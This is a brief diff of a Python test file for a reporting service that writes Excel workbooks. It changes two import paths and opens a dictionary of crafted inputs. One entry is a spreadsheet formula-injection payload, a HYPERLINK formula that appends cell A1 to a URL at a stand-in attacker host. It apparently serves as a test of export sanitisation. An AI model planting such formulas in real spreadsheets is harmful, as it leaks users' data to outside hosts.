@@ -7,8 +7,8 @@ import zipfile
 from openpyxl import load_workbook
 
 from htk_reporting.main import create_service
-from htk_reporting.sample_events import action_event, example_plan
-from htk_runtime.testing import running
+from htk_testing.reporting_events import action_event, example_plan
+from htk_testing.runtime import running
 
 CRAFTED = {
     "e1": '=HYPERLINK("http://evil.example/?"&A1,"Lue")',
